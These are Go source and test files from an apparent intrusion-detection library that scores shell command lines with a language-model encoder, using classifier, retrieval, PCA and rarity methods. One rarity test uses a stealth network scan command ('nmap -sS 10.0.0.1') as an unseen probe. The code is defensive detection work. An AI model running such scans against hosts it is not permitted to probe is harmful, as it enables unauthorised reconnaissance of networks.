	if _, err := Replicas(plainScorer{}, 0); err != nil {
		t.Fatalf("Replicas clamps n<1: %v", err)
	}
}

// TestEngineCloneIndependence: a cloned engine shares the frozen weights
// (identical outputs) but owns its cache and counters.
func TestEngineCloneIndependence(t *testing.T) {
	f := getFixture(t)
	cfg := DefaultEngineConfig()
	cfg.CacheLines = 64
	eng := NewEngine(f.mdl.Encoder, f.tok, cfg)
	lines := f.testPos

	want, err := eng.EmbedLines(lines)
	if err != nil {
		t.Fatal(err)
	}
	if st := eng.CacheStats(); st.Misses == 0 || st.Entries == 0 {
		t.Fatalf("original engine recorded no cache activity: %+v", st)
	}

	clone := eng.Clone()
	if st := clone.CacheStats(); st.Entries != 0 || st.Hits != 0 || st.Misses != 0 {
		t.Fatalf("clone inherited cache state: %+v", st)
	}
	got, err := clone.EmbedLines(lines)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want.Data {
		if want.Data[i] != got.Data[i] {
			t.Fatalf("element %d: clone %g, original %g", i, got.Data[i], want.Data[i])
		}
	}
	// A second pass over the same lines is all hits.
	if _, err := clone.EmbedLines(lines); err != nil {
		t.Fatal(err)
	}
	if st := clone.CacheStats(); st.Hits == 0 || st.HitRate() <= 0 {
		t.Fatalf("clone cache never hit: %+v", st)
	}
}
