package tuning

import (
	"bytes"
	"errors"
	"math"
	"strings"
	"testing"
)

// rarityFixtureLines is a small shell corpus with a sharply skewed command
// distribution: ls/cat dominate, tar appears once.
func rarityFixtureLines() []string {
	lines := []string{"tar -xzf backup.tgz"}
	for i := 0; i < 40; i++ {
		lines = append(lines, "ls -la /tmp", "cat /etc/hosts")
	}
	return lines
}

func fitTestRarity(t *testing.T, lines []string) *RarityTable {
	t.Helper()
	rt, err := FitRarity("shell", lines)
	if err != nil {
		t.Fatalf("FitRarity: %v", err)
	}
	return rt
}

func TestRarityOrdersCommonBeforeRare(t *testing.T) {
	rt := fitTestRarity(t, rarityFixtureLines())
	common := rt.Rarity("ls -la /tmp")
	rare := rt.Rarity("tar -xzf backup.tgz")
	if !(common < rare) {
		t.Fatalf("common line rarity %v not below rare line rarity %v", common, rare)
	}
	if math.IsInf(common, 0) || math.IsInf(rare, 0) {
		t.Fatalf("fitted lines must have finite rarity; got %v and %v", common, rare)
	}
}

func TestRarityUnseenCommandAboveEveryFittedLine(t *testing.T) {
	lines := rarityFixtureLines()
	rt := fitTestRarity(t, lines)
	worstFitted := math.Inf(-1)
	for _, line := range lines {
		if r := rt.Rarity(line); r > worstFitted {
			worstFitted = r
		}
	}
	unseen := rt.Rarity("nmap -sS 10.0.0.1")
	if !(unseen > worstFitted) {
		t.Fatalf("unseen-command line rarity %v not above every fitted line (worst %v)", unseen, worstFitted)
	}
	if unseen > rt.MaxRarity() {
		t.Fatalf("rarity %v exceeds MaxRarity %v", unseen, rt.MaxRarity())
	}
}

func TestRarityUnparsableAndEmptyAreInfinite(t *testing.T) {
	rt := fitTestRarity(t, rarityFixtureLines())
	for _, line := range []string{`echo "unclosed`, "", "   "} {
		if r := rt.Rarity(line); !math.IsInf(r, 1) {
			t.Fatalf("Rarity(%q) = %v, want +Inf", line, r)
		}
	}
}

func TestRaritySingleCommandCorpus(t *testing.T) {
	rt := fitTestRarity(t, []string{"ls"})
	seen := rt.Rarity("ls")
	if math.IsInf(seen, 0) || math.IsNaN(seen) {
		t.Fatalf("single-command corpus: Rarity(ls) = %v, want finite", seen)
	}
	if other := rt.Rarity("pwd"); !(other > seen) {
		t.Fatalf("unseen command rarity %v not above the only seen command's %v", other, seen)
	}
}

func TestFitRarityRejectsEmptyAndUnparsableCorpora(t *testing.T) {
	if _, err := FitRarity("shell", nil); err == nil {
		t.Fatal("FitRarity on empty corpus: want error")
	}
	if _, err := FitRarity("shell", []string{`echo "unclosed`}); err == nil {
		t.Fatal("FitRarity on all-unparsable corpus: want error")
	}
	if _, err := FitRarity("no-such-modality", []string{"ls"}); err == nil {
		t.Fatal("FitRarity on unknown modality: want error")
	}
}

func TestRarityDenylistOverridesCommonUnits(t *testing.T) {
	rt := fitTestRarity(t, rarityFixtureLines())
	before := rt.Rarity("ls -la /tmp")
	if math.IsInf(before, 0) {
		t.Fatalf("fixture line should start finite, got %v", before)
	}
	rt.SetDenylist([]string{"ls -la /tmp"})
	if r := rt.Rarity("ls -la /tmp"); !math.IsInf(r, 1) {
		t.Fatalf("denylisted line rarity %v, want +Inf", r)
	}
	// The denylist is exact-line: the sibling common line is untouched.
	if r := rt.Rarity("cat /etc/hosts"); math.IsInf(r, 0) {
		t.Fatalf("non-denied line rarity became %v", r)
	}
	if got := rt.Denylist(); len(got) != 1 || got[0] != "ls -la /tmp" {
		t.Fatalf("Denylist() = %q", got)
	}
}

func TestRaritySaveLoadRoundTrip(t *testing.T) {
	lines := rarityFixtureLines()
	rt := fitTestRarity(t, lines)
	rt.SetDenylist([]string{"ls -la /tmp", `cat "with quotes"`})
	var buf bytes.Buffer
	if err := rt.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	var again bytes.Buffer
	if err := rt.Save(&again); err != nil {
		t.Fatalf("second Save: %v", err)
	}
	if !bytes.Equal(buf.Bytes(), again.Bytes()) {
		t.Fatal("Save is not deterministic")
	}
	loaded, err := LoadRarity(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("LoadRarity: %v", err)
	}
	if loaded.Modality() != rt.Modality() {
		t.Fatalf("round-trip modality %q != %q", loaded.Modality(), rt.Modality())
	}
	if got, want := loaded.Denylist(), rt.Denylist(); len(got) != len(want) || got[0] != want[0] || got[1] != want[1] {
		t.Fatalf("round-trip denylist %q != %q", got, want)
	}
	probes := append(append([]string{}, lines...), "nmap -sS host", `bad "quote`, "ls -la /tmp | cat")
	for _, p := range probes {
		a, b := rt.Rarity(p), loaded.Rarity(p)
		if a != b && !(math.IsInf(a, 1) && math.IsInf(b, 1)) {
			t.Fatalf("Rarity(%q) changed across round-trip: %v -> %v", p, a, b)
		}
	}
}

func TestLoadRarityRejectsTampering(t *testing.T) {
	rt := fitTestRarity(t, rarityFixtureLines())
	var buf bytes.Buffer
	if err := rt.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	good := buf.String()

	flipped := []byte(good)
	flipped[len(flipped)/2] ^= 0x01 // payload bit flip
	cases := map[string]string{
		"bit flip":   string(flipped),
		"truncated":  good[:len(good)-5],
		"bad header": "clmids-rarity v9 " + good,
		"no header":  "not a rarity table",
	}
	for name, data := range cases {
		if _, err := LoadRarity(strings.NewReader(data)); !errors.Is(err, ErrRarityCorrupt) {
			t.Fatalf("%s: got %v, want ErrRarityCorrupt", name, err)
		}
	}
}
