package tuning

import (
	"bytes"
	"strings"
	"testing"

	"clmids/internal/linalg"
	"clmids/internal/model"
)

// TestScorerHeadRoundTrips: every method head reloads into a scorer whose
// scores match the original exactly, over the shared tuning fixture.
func TestScorerHeadRoundTrips(t *testing.T) {
	f := getFixture(t)
	eval := append(append([]string(nil), f.testPos...), f.testNeg...)

	// Each builder returns the scorer plus the encoder a loader must pair
	// the head with — the shared frozen backbone, except for the
	// reconstruction method, which tunes (a clone of) the encoder and
	// serves on the tuned weights.
	builders := map[string]func(t *testing.T) (Scorer, *model.Encoder, error){
		MethodClassifier: func(t *testing.T) (Scorer, *model.Encoder, error) {
			cfg := DefaultClassifierConfig()
			cfg.Epochs = 2
			s, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY, cfg)
			return s, f.mdl.Encoder, err
		},
		MethodRetrieval: func(t *testing.T) (Scorer, *model.Encoder, error) {
			s, err := TrainRetrieval(f.mdl.Encoder, f.tok, f.trainX, f.trainY, 1)
			return s, f.mdl.Encoder, err
		},
		MethodPCA: func(t *testing.T) (Scorer, *model.Encoder, error) {
			s, err := TrainPCA(f.mdl.Encoder, f.tok, f.trainX, linalg.PCAOptions{})
			return s, f.mdl.Encoder, err
		},
		MethodReconstruction: func(t *testing.T) (Scorer, *model.Encoder, error) {
			clone := cloneModel(t, f.mdl) // recons tunes the encoder in place
			cfg := DefaultReconsConfig()
			cfg.Rounds = 1
			s, err := TrainReconstruction(clone.Encoder, f.tok, f.trainX, f.trainY, cfg)
			return s, clone.Encoder, err
		},
	}
	for method, build := range builders {
		t.Run(method, func(t *testing.T) {
			s, enc, err := build(t)
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			want, err := s.Score(eval)
			if err != nil {
				t.Fatalf("score: %v", err)
			}
			var buf bytes.Buffer
			if err := SaveScorerHead(&buf, s); err != nil {
				t.Fatalf("save: %v", err)
			}
			// Deterministic serialization: same head, same bytes.
			var buf2 bytes.Buffer
			if err := SaveScorerHead(&buf2, s); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(buf.Bytes(), buf2.Bytes()) {
				t.Fatal("saving the same head twice produced different bytes")
			}

			loaded, gotMethod, err := LoadScorerHead(&buf, enc, f.tok)
			if err != nil {
				t.Fatalf("load: %v", err)
			}
			if gotMethod != method {
				t.Fatalf("loaded method %q, want %q", gotMethod, method)
			}
			got, err := loaded.Score(eval)
			if err != nil {
				t.Fatalf("loaded score: %v", err)
			}
			for i := range want {
				if got[i] != want[i] {
					t.Fatalf("score %d diverges: %v vs %v", i, got[i], want[i])
				}
			}
			if _, ok := loaded.(Replicable); !ok {
				t.Fatalf("loaded %s scorer is not replicable", method)
			}
		})
	}
}

// TestLoadScorerHeadRejectsGarbage: truncated, empty, and wrong-backbone
// streams fail with errors, never panics.
func TestLoadScorerHeadRejectsGarbage(t *testing.T) {
	f := getFixture(t)
	s, err := TrainPCA(f.mdl.Encoder, f.tok, f.trainX, linalg.PCAOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := SaveScorerHead(&buf, s); err != nil {
		t.Fatal(err)
	}
	full := buf.Bytes()

	for _, n := range []int{0, 1, len(full) / 2, len(full) - 1} {
		if _, _, err := LoadScorerHead(bytes.NewReader(full[:n]), f.mdl.Encoder, f.tok); err == nil {
			t.Fatalf("truncation to %d bytes accepted", n)
		}
	}
	if _, _, err := LoadScorerHead(strings.NewReader("not a gob stream at all"), f.mdl.Encoder, f.tok); err == nil {
		t.Fatal("garbage stream accepted")
	}
}

// TestSaveScorerHeadRejectsUnknown: custom scorers outside the four-method
// artifact layer are refused, not silently mis-serialized.
func TestSaveScorerHeadRejectsUnknown(t *testing.T) {
	var buf bytes.Buffer
	if err := SaveScorerHead(&buf, scorerFunc(nil)); err == nil ||
		!strings.Contains(err.Error(), "no persistable head") {
		t.Fatalf("unknown scorer type: %v", err)
	}
	if _, ok := ScorerMethod(scorerFunc(nil)); ok {
		t.Fatal("unknown scorer type has a method name")
	}
}

type scorerFunc func([]string) ([]float64, error)

func (f scorerFunc) Score(lines []string) ([]float64, error) { return f(lines) }
