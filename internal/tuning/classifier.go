package tuning

import (
	"fmt"
	"math"
	"math/rand"

	"clmids/internal/anomaly"
	"clmids/internal/bpe"
	"clmids/internal/model"
	"clmids/internal/nn"
	"clmids/internal/tensor"
)

// ClassifierConfig controls classification-based tuning (§IV-B).
type ClassifierConfig struct {
	// HeadHidden is the MLP hidden width; 0 uses the encoder hidden size.
	HeadHidden int
	// LR is the AdamW learning rate. The paper uses 5e-5 for BERT-base;
	// small encoders tolerate (and need) more. Default 1e-3.
	LR float64
	// Epochs over the labeled set (paper: 5).
	Epochs int
	// BatchSize in lines. Default 32.
	BatchSize int
	// MinPosFrac oversamples positive lines so each epoch sees at least
	// this fraction of positives; intrusions are rare, and without it the
	// head collapses to the majority class. Default 0.25; set negative to
	// disable.
	MinPosFrac float64
	// MeanPoolFeatures switches the head input from the [CLS] hidden state
	// (the paper's probing setup) to mean-pooled token states. Small
	// encoders trained briefly have weak [CLS] summaries, and mean pooling
	// recovers most of the gap; the paper-scale configuration keeps CLS.
	MeanPoolFeatures bool
	// Seed drives initialization, shuffling, and oversampling.
	Seed int64
	// Logf, when non-nil, receives progress lines.
	Logf func(format string, args ...any)
}

// DefaultClassifierConfig mirrors the paper's recipe adapted to small
// encoders.
func DefaultClassifierConfig() ClassifierConfig {
	return ClassifierConfig{
		LR:         1e-3,
		Epochs:     5,
		BatchSize:  32,
		MinPosFrac: 0.25,
		Seed:       1,
	}
}

func (c ClassifierConfig) withDefaults(encHidden int) ClassifierConfig {
	if c.HeadHidden <= 0 {
		c.HeadHidden = encHidden
	}
	if c.LR <= 0 {
		c.LR = 1e-3
	}
	if c.Epochs <= 0 {
		c.Epochs = 5
	}
	if c.BatchSize <= 0 {
		c.BatchSize = 32
	}
	if c.MinPosFrac == 0 {
		c.MinPosFrac = 0.25
	}
	return c
}

// Classifier is a trained classification-based tuner: frozen backbone plus
// a two-layer perceptron over the [CLS] embedding (Kaiming-initialized, as
// in §V). Features are standardized with training statistics before the
// head: frozen-backbone [CLS] activations have tiny per-dimension variance,
// and an unconditioned head trains poorly on them.
//
// The backbone is frozen by construction, so the classifier holds a
// persistent LRU-cached inference engine: repeated lines in a production
// stream skip the encoder. Score and ScoreFeatures never touch the autograd
// tape and are safe for concurrent use.
type Classifier struct {
	engine   *Engine
	head     *nn.MLP
	std      *anomaly.Standardizer
	meanPool bool
}

var (
	_ Scorer       = (*Classifier)(nil)
	_ Replicable   = (*Classifier)(nil)
	_ CacheStatser = (*Classifier)(nil)
)

// Replicate returns an independent replica sharing the frozen backbone,
// trained head, and standardizer; only the engine (scratch pool + LRU
// cache) is replicated. Replicas score byte-identically and concurrently.
func (c *Classifier) Replicate() Scorer {
	return &Classifier{engine: c.engine.Clone(), head: c.head, std: c.std, meanPool: c.meanPool}
}

// CacheStats snapshots the serving engine's embedding-cache counters.
func (c *Classifier) CacheStats() CacheStats { return c.engine.CacheStats() }

// TrainClassifier tunes the head on (lines, labels) with the backbone
// frozen. Because the backbone never changes, [CLS] features are extracted
// once and the head is trained on the cached features — the exact same
// optimization as backpropagating through a frozen encoder, at a fraction
// of the cost.
func TrainClassifier(enc *model.Encoder, tok *bpe.Tokenizer, lines []string, labels []bool, cfg ClassifierConfig) (*Classifier, error) {
	positives, err := checkSupervision(lines, labels)
	if err != nil {
		return nil, err
	}
	c := cfg.withDefaults(enc.Config().Hidden)
	rng := rand.New(rand.NewSource(c.Seed))

	engine := NewEngine(enc, tok, DefaultEngineConfig())
	feats, err := c.features(engine, lines)
	if err != nil {
		return nil, err
	}
	std := anomaly.FitStandardizer(feats)
	for i := 0; i < feats.Rows; i++ {
		copy(feats.Row(i), std.Apply(feats.Row(i)))
	}

	head := nn.NewMLP(enc.Config().Hidden, c.HeadHidden, 2, rng)
	opt := nn.NewAdamW(head.Params(), c.LR, 0.01)

	// Build the (possibly oversampled) index list per epoch.
	posIdx := make([]int, 0, positives)
	for i, y := range labels {
		if y {
			posIdx = append(posIdx, i)
		}
	}
	baseIdx := make([]int, len(lines))
	for i := range baseIdx {
		baseIdx[i] = i
	}

	for epoch := 0; epoch < c.Epochs; epoch++ {
		idx := append([]int(nil), baseIdx...)
		if c.MinPosFrac > 0 {
			want := int(c.MinPosFrac * float64(len(lines)))
			for extra := positives; extra < want; extra++ {
				idx = append(idx, posIdx[rng.Intn(len(posIdx))])
			}
		}
		rng.Shuffle(len(idx), func(i, j int) { idx[i], idx[j] = idx[j], idx[i] })

		sum, batches := 0.0, 0
		for at := 0; at < len(idx); at += c.BatchSize {
			end := at + c.BatchSize
			if end > len(idx) {
				end = len(idx)
			}
			rows := idx[at:end]
			x := tensor.NewMatrix(len(rows), feats.Cols)
			ys := make([]int, len(rows))
			for i, r := range rows {
				copy(x.Row(i), feats.Row(r))
				if labels[r] {
					ys[i] = 1
				}
			}
			logits := head.Forward(tensor.Const(x))
			loss := tensor.CrossEntropy(logits, ys, -100)
			if err := loss.Backward(); err != nil {
				return nil, fmt.Errorf("tuning: classifier backward: %w", err)
			}
			nn.ClipGradNorm(head.Params(), 1.0)
			opt.Step()
			sum += loss.Item()
			batches++
		}
		if c.Logf != nil {
			c.Logf("classifier: epoch %d/%d loss %.4f", epoch+1, c.Epochs, sum/float64(batches))
		}
	}
	return &Classifier{engine: engine, head: head, std: std, meanPool: c.MeanPoolFeatures}, nil
}

// features extracts the head inputs per the configuration.
func (c ClassifierConfig) features(engine *Engine, lines []string) (*tensor.Matrix, error) {
	if c.MeanPoolFeatures {
		return engine.EmbedLines(lines)
	}
	return engine.CLSLines(lines)
}

// Score implements Scorer: the softmax probability of the intrusion class.
func (c *Classifier) Score(lines []string) ([]float64, error) {
	cfg := ClassifierConfig{MeanPoolFeatures: c.meanPool}
	feats, err := cfg.features(c.engine, lines)
	if err != nil {
		return nil, err
	}
	return c.ScoreFeatures(feats), nil
}

// ScoreFeatures scores pre-extracted raw [CLS] features (standardization is
// applied internally); the experiment harness uses this to avoid
// re-encoding shared test sets.
func (c *Classifier) ScoreFeatures(feats *tensor.Matrix) []float64 {
	z := tensor.NewMatrix(feats.Rows, feats.Cols)
	for i := 0; i < feats.Rows; i++ {
		copy(z.Row(i), c.std.Apply(feats.Row(i)))
	}
	logits := headLogits(c.head, z)
	out := make([]float64, feats.Rows)
	for i := 0; i < feats.Rows; i++ {
		row := logits.Row(i)
		// Two-class softmax probability of class 1, numerically stable.
		m := math.Max(row[0], row[1])
		e0 := math.Exp(row[0] - m)
		e1 := math.Exp(row[1] - m)
		out[i] = e1 / (e0 + e1)
	}
	return out
}

// headLogits runs the trained two-layer head forward without building an
// autograd graph: inference needs no gradients, and keeping the scoring
// path off the tape makes it allocation-light and safe for concurrent use.
// The arithmetic is identical to nn.MLP.Forward with the ReLU activation
// NewMLP installs (same matmul kernel, same bias-add and clamp order).
func headLogits(head *nn.MLP, x *tensor.Matrix) *tensor.Matrix {
	h := tensor.MatMul(x, head.L1.W.Val)
	b1 := head.L1.B.Val.Row(0)
	for i := 0; i < h.Rows; i++ {
		row := h.Row(i)
		for j := range row {
			row[j] += b1[j]
			if row[j] < 0 {
				row[j] = 0
			}
		}
	}
	out := tensor.MatMul(h, head.L2.W.Val)
	b2 := head.L2.B.Val.Row(0)
	for i := 0; i < out.Rows; i++ {
		row := out.Row(i)
		for j := range row {
			row[j] += b2[j]
		}
	}
	return out
}
