package tuning

import (
	"bytes"
	"math"
	"testing"

	"clmids/internal/bpe"
	"clmids/internal/linalg"
	"clmids/internal/model"
)

// testBackbone returns the shared fixture's frozen encoder + tokenizer.
func testBackbone(t *testing.T) (*model.Encoder, *bpe.Tokenizer) {
	t.Helper()
	f := getFixture(t)
	return f.mdl.Encoder, f.tok
}

// testLines is a scoring stream with duplicates (exercises dedup + LRU).
func testLines(t *testing.T) []string {
	t.Helper()
	return engineFixtureLines(getFixture(t))
}

// testPCAScorer trains the unsupervised method over the fixture baseline —
// the cheapest engine-backed scorer, enough to exercise the precision
// plumbing shared by all four methods.
func testPCAScorer(t *testing.T) *PCAScorer {
	t.Helper()
	f := getFixture(t)
	sc, err := TrainPCA(f.mdl.Encoder, f.tok, f.trainX, linalg.PCAOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return sc
}

// engineAt builds an engine over the shared test backbone at one rung.
func engineAt(t *testing.T, prec model.Precision, cacheLines int) (*Engine, []string) {
	t.Helper()
	enc, tok := testBackbone(t)
	cfg := DefaultEngineConfig()
	cfg.CacheLines = cacheLines
	cfg.Precision = prec
	return NewEngine(enc, tok, cfg), testLines(t)
}

// TestEnginePrecisionParity bounds the low-rung embeddings against the
// float64 engine and pins determinism across repeated calls (the LRU keeps
// canonical float64 rows, so a cache hit returns exactly the first
// computation).
func TestEnginePrecisionParity(t *testing.T) {
	f64e, lines := engineAt(t, model.PrecisionFloat64, 64)
	want, err := f64e.EmbedLines(lines)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		prec model.Precision
		tol  float64
	}{{model.PrecisionFloat32, 1e-3}, {model.PrecisionInt8, 0.2}} {
		e, _ := engineAt(t, tc.prec, 64)
		if e.Precision() != tc.prec {
			t.Fatalf("engine precision %q, want %q", e.Precision(), tc.prec)
		}
		got, err := e.EmbedLines(lines)
		if err != nil {
			t.Fatal(err)
		}
		worst := 0.0
		for i := range want.Data {
			d := math.Abs(want.Data[i]-got.Data[i]) / (1 + math.Abs(want.Data[i]))
			if d > worst {
				worst = d
			}
		}
		if worst > tc.tol {
			t.Errorf("%s: worst relative deviation %g > %g", tc.prec, worst, tc.tol)
		}

		// Cached pass: rows must be byte-identical to the first pass.
		again, err := e.EmbedLines(lines)
		if err != nil {
			t.Fatal(err)
		}
		for i := range got.Data {
			if got.Data[i] != again.Data[i] {
				t.Fatalf("%s: cached row diverges at %d", tc.prec, i)
			}
		}
		if st := e.CacheStats(); st.Hits == 0 {
			t.Errorf("%s: second pass hit the encoder, not the LRU", tc.prec)
		}

		// Clones inherit the rung and score identically.
		clone := e.Clone()
		if clone.Precision() != tc.prec {
			t.Errorf("clone precision %q, want %q", clone.Precision(), tc.prec)
		}
		cg, err := clone.EmbedLines(lines)
		if err != nil {
			t.Fatal(err)
		}
		for i := range got.Data {
			if got.Data[i] != cg.Data[i] {
				t.Fatalf("%s: clone diverges at %d", tc.prec, i)
			}
		}

		// WithPrecision back to float64 must reproduce the golden rows
		// exactly — the float64 kernels are untouched by the ladder.
		back, err := e.WithPrecision(model.PrecisionFloat64).EmbedLines(lines)
		if err != nil {
			t.Fatal(err)
		}
		for i := range want.Data {
			if want.Data[i] != back.Data[i] {
				t.Fatalf("%s: WithPrecision(float64) not bitwise-golden at %d", tc.prec, i)
			}
		}
	}
}

// TestSetScorerPrecision rebinds a built scorer's engine across rungs and
// checks scores stay within the ladder tolerance of the float64 ones.
func TestSetScorerPrecision(t *testing.T) {
	sc := testPCAScorer(t)
	lines := testLines(t)
	want, err := sc.Score(lines)
	if err != nil {
		t.Fatal(err)
	}
	if p, ok := ScorerPrecision(sc); !ok || p != model.PrecisionFloat64 {
		t.Fatalf("fresh scorer precision %v %v", p, ok)
	}
	if err := SetScorerPrecision(sc, model.PrecisionInt8); err != nil {
		t.Fatal(err)
	}
	if p, _ := ScorerPrecision(sc); p != model.PrecisionInt8 {
		t.Fatalf("precision %q after set", p)
	}
	got, err := sc.Score(lines)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want {
		if d := math.Abs(want[i] - got[i]); d > 0.2*(1+math.Abs(want[i])) {
			t.Errorf("line %d: int8 %g vs f64 %g", i, got[i], want[i])
		}
	}
	// And back: float64 scoring must be bitwise-identical to the original.
	if err := SetScorerPrecision(sc, model.PrecisionFloat64); err != nil {
		t.Fatal(err)
	}
	back, err := sc.Score(lines)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want {
		if want[i] != back[i] {
			t.Fatalf("line %d: round-trip to float64 not bitwise (%g vs %g)", i, back[i], want[i])
		}
	}
	if err := SetScorerPrecision(sc, "int4"); err == nil {
		t.Error("SetScorerPrecision accepted an unknown rung")
	}
}

// TestLoadScorerHeadPrec: a head loaded at a low rung scores like the
// original within tolerance, and replicas inherit the rung.
func TestLoadScorerHeadPrec(t *testing.T) {
	sc := testPCAScorer(t)
	lines := testLines(t)
	want, err := sc.Score(lines)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := SaveScorerHead(&buf, sc); err != nil {
		t.Fatal(err)
	}
	enc, tok := testBackbone(t)
	loaded, method, err := LoadScorerHeadPrec(bytes.NewReader(buf.Bytes()), enc, tok, model.PrecisionInt8)
	if err != nil {
		t.Fatal(err)
	}
	if method != MethodPCA {
		t.Fatalf("method %q", method)
	}
	if p, _ := ScorerPrecision(loaded); p != model.PrecisionInt8 {
		t.Fatalf("loaded precision %q", p)
	}
	got, err := loaded.Score(lines)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want {
		if d := math.Abs(want[i] - got[i]); d > 0.2*(1+math.Abs(want[i])) {
			t.Errorf("line %d: int8-loaded %g vs f64 %g", i, got[i], want[i])
		}
	}

	reps, err := Replicas(loaded, 3)
	if err != nil {
		t.Fatal(err)
	}
	for ri, r := range reps {
		if p, _ := ScorerPrecision(r); p != model.PrecisionInt8 {
			t.Fatalf("replica %d precision %q", ri, p)
		}
		rs, err := r.Score(lines)
		if err != nil {
			t.Fatal(err)
		}
		for i := range got {
			if rs[i] != got[i] {
				t.Fatalf("replica %d diverges at line %d", ri, i)
			}
		}
	}
}
