package tuning

import (
	"clmids/internal/anomaly"
	"clmids/internal/bpe"
	"clmids/internal/model"
)

// RetrievalScorer is the §IV-D method lifted to raw command lines: embed
// with the frozen pre-trained encoder, then score by average cosine
// similarity to the k nearest malicious-labeled training embeddings. It
// requires no tuning of the language model.
type RetrievalScorer struct {
	enc *model.Encoder
	tok *bpe.Tokenizer
	ret *anomaly.Retrieval
}

var _ Scorer = (*RetrievalScorer)(nil)

// TrainRetrieval indexes the labeled training lines. k=1 reproduces the
// paper's 1NN setting.
func TrainRetrieval(enc *model.Encoder, tok *bpe.Tokenizer, lines []string, labels []bool, k int) (*RetrievalScorer, error) {
	if _, err := checkSupervision(lines, labels); err != nil {
		return nil, err
	}
	emb, err := EmbedLines(enc, tok, lines)
	if err != nil {
		return nil, err
	}
	ret := anomaly.NewRetrieval(k)
	if err := ret.FitLabeled(emb, labels); err != nil {
		return nil, err
	}
	return &RetrievalScorer{enc: enc, tok: tok, ret: ret}, nil
}

// Score implements Scorer.
func (r *RetrievalScorer) Score(lines []string) ([]float64, error) {
	emb, err := EmbedLines(r.enc, r.tok, lines)
	if err != nil {
		return nil, err
	}
	out := make([]float64, emb.Rows)
	for i := 0; i < emb.Rows; i++ {
		out[i] = r.ret.Score(emb.Row(i))
	}
	return out, nil
}

// Retrieval exposes the underlying index (for the majority-vote ablation).
func (r *RetrievalScorer) Retrieval() *anomaly.Retrieval { return r.ret }
