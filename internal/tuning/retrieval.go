package tuning

import (
	"clmids/internal/anomaly"
	"clmids/internal/bpe"
	"clmids/internal/model"
)

// RetrievalScorer is the §IV-D method lifted to raw command lines: embed
// with the frozen pre-trained encoder, then score by average cosine
// similarity to the k nearest malicious-labeled training embeddings. It
// requires no tuning of the language model, so it holds a persistent
// inference engine whose LRU cache survives across Score calls — repeated
// lines in a production log stream skip the encoder entirely.
type RetrievalScorer struct {
	engine *Engine
	ret    *anomaly.Retrieval
}

var (
	_ Scorer       = (*RetrievalScorer)(nil)
	_ Replicable   = (*RetrievalScorer)(nil)
	_ CacheStatser = (*RetrievalScorer)(nil)
)

// Replicate returns an independent replica sharing the frozen backbone and
// the fitted (read-only) retrieval index; only the engine is replicated.
func (r *RetrievalScorer) Replicate() Scorer {
	return &RetrievalScorer{engine: r.engine.Clone(), ret: r.ret}
}

// CacheStats snapshots the serving engine's embedding-cache counters.
func (r *RetrievalScorer) CacheStats() CacheStats { return r.engine.CacheStats() }

// NewRetrievalScorer wraps an already-fitted retrieval index behind the
// given serving engine — the composition TrainRetrieval builds, exposed for
// callers that need a non-default engine configuration (a cache-off engine
// for cold benchmarks, a custom batch geometry).
func NewRetrievalScorer(engine *Engine, ret *anomaly.Retrieval) *RetrievalScorer {
	return &RetrievalScorer{engine: engine, ret: ret}
}

// TrainRetrieval indexes the labeled training lines. k=1 reproduces the
// paper's 1NN setting.
func TrainRetrieval(enc *model.Encoder, tok *bpe.Tokenizer, lines []string, labels []bool, k int) (*RetrievalScorer, error) {
	if _, err := checkSupervision(lines, labels); err != nil {
		return nil, err
	}
	engine := NewEngine(enc, tok, DefaultEngineConfig())
	emb, err := engine.EmbedLines(lines)
	if err != nil {
		return nil, err
	}
	ret := anomaly.NewRetrieval(k)
	if err := ret.FitLabeled(emb, labels); err != nil {
		return nil, err
	}
	return &RetrievalScorer{engine: engine, ret: ret}, nil
}

// Score implements Scorer: embedding runs on the batched inference engine
// and the kNN scans fan out across cores.
func (r *RetrievalScorer) Score(lines []string) ([]float64, error) {
	emb, err := r.engine.EmbedLines(lines)
	if err != nil {
		return nil, err
	}
	return r.ret.ScoreBatch(emb), nil
}

// Retrieval exposes the underlying index (for the majority-vote ablation).
func (r *RetrievalScorer) Retrieval() *anomaly.Retrieval { return r.ret }
