package tuning

import (
	"fmt"

	"clmids/internal/model"
)

// Scorer precision plumbing. Heads are always trained in float64 (so two
// bundles of the same seed carry identical heads regardless of serve
// precision); the precision rung is a property of the serving engine only.
// SetScorerPrecision rebinds a built scorer's engine to a different rung —
// the frozen backbone, trained head, and fitted artifacts are untouched,
// and the engine's embedding LRU starts empty (cached rows are float64
// either way, but rows computed at different rungs differ in the low bits,
// so a swap never mixes provenance within one cache).

// PrecisionSwitcher is implemented by scorers that can report their serving
// rung and stamp out an independent variant of themselves at another rung —
// the hook the streaming layer's graceful-degradation policy shifts scorers
// through. The four engine-backed method scorers get this behavior from
// AtPrecision without implementing the interface; wrappers (fault
// injectors, custom scorers) implement it to stay degradable.
type PrecisionSwitcher interface {
	Scorer
	// Precision reports the current serving rung.
	Precision() model.Precision
	// AtPrecision returns an independent scorer that scores the same lines
	// at precision p; the receiver is left untouched and keeps serving.
	AtPrecision(p model.Precision) (Scorer, error)
}

// ScorerPrecision reports the serving precision of s, or false for scorer
// types without an engine (or a PrecisionSwitcher implementation).
func ScorerPrecision(s Scorer) (model.Precision, bool) {
	if ps, ok := s.(PrecisionSwitcher); ok {
		return ps.Precision(), true
	}
	if e := engineOf(s); e != nil {
		return e.Precision(), true
	}
	return "", false
}

// AtPrecision returns an independent scorer serving at precision p while s
// keeps serving untouched at its own rung: a PrecisionSwitcher delegates,
// any other Replicable engine-backed scorer is replicated (shared frozen
// artifacts, fresh engine scratch + empty LRU) and its replica's engine
// rebound to p before it ever scores. This is the off-hot-path half of a
// precision downshift; installing the result goes through the stream
// layer's SwapScorer so no in-flight batch mixes rungs.
func AtPrecision(s Scorer, p model.Precision) (Scorer, error) {
	if !p.Valid() {
